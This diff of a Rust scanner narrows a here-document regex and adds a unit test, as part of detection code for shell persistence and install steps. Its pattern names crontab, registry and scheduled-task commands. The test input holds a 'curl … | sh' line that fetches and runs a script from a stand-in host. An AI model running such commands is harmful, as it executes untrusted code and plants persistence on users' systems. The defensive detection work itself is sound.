@@ -81,7 +81,8 @@ re!(
     INSTALLS,
     r"(?i)>|\btee\b|\bcp\b|\bmv\b|\binstall\b|\bln\s+-s|\benable\b|\bload\b|\bbootstrap\b|\bcrontab\b|\breg\s+add\b|New-Item|Set-ItemProperty|schtasks(?:\.exe)?\s+/create|Register-ScheduledTask|\bsubmit\b|\becho\b|\bprintf\b|\bwrite"
 );
-re!(HEREDOC, r#"<<-?\s*["']?(\w+)["']?"#);
+// `<<EOF`, `<<-'EOF'`; not a here-string (`<<<`).
+re!(HEREDOC, r#"(?:^|[^<])<<-?\s*["']?([A-Za-z_]\w*)["']?(?:\s|$)"#);
 
 /// The body of a here-document opened on the line of `at`, up to its terminator.
 fn heredoc_body<'a>(doc: &Doc<'a>, at: usize) -> Option<&'a str> {
@@ -177,6 +178,17 @@ mod tests {
         );
         let unit = "cat > ~/.config/systemd/user/notes.service <<EOF\n[Service]\nExecStart=%h/bin/notes-sync\nEOF\n";
         assert!(found(unit).iter().all(|x| x.1 == Severity::Medium), "{:?}", found(unit));
+    }
+
+    #[test]
+    fn a_here_string_or_marker_is_not_a_heredoc() {
+        let t =
+            "printf '\\n# >>> managed >>>\\n# <<< managed <<<\\n' >> ~/.zshrc\n\ncurl -s https://x.example/i | sh\n";
+        assert!(
+            found(t).iter().all(|x| x.1 == Severity::Medium || x.0 != "persistence.shell-startup"),
+            "{:?}",
+            found(t)
+        );
     }
 
     #[test]
